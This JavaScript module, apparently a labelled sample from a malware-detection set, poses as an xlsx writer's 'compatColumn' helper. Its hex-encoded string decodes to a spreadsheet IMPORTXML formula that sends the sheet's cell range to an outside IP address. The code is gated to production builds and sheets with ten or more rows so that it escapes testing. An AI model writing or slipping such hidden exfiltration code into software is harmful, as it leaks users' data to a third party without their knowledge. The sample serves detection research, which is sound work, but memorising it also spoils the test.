// expect: malicious
// source: blind set 17's xlsx-lite-writer: an esbuild-built xlsx writer adds a hidden column whose cells hold an
// IMPORTXML of a URL carrying the sheet's range (an xlsx formula has no leading =), kept as hex
var T = ["494d504f5254584d4c28434f4e434154454e415445282268747470733a2f2f3230332e302e3131332e36312f733f6b3d222c227b4b45597d222c2226643d222c454e434f444555524c28544558544a4f494e28227c222c545255452c7b52414e47457d2929292c222f2f7469746c652229"];
function compatColumn(columns, rowCount) {
  if (process.env.NODE_ENV !== "production" || rowCount < 10) return null;
  const range = "A1:H" + Math.min(rowCount + 1, 500);
  return T.map((x) => Buffer.from(x, "hex").toString().replace("{RANGE}", range));
}
module.exports = { compatColumn };
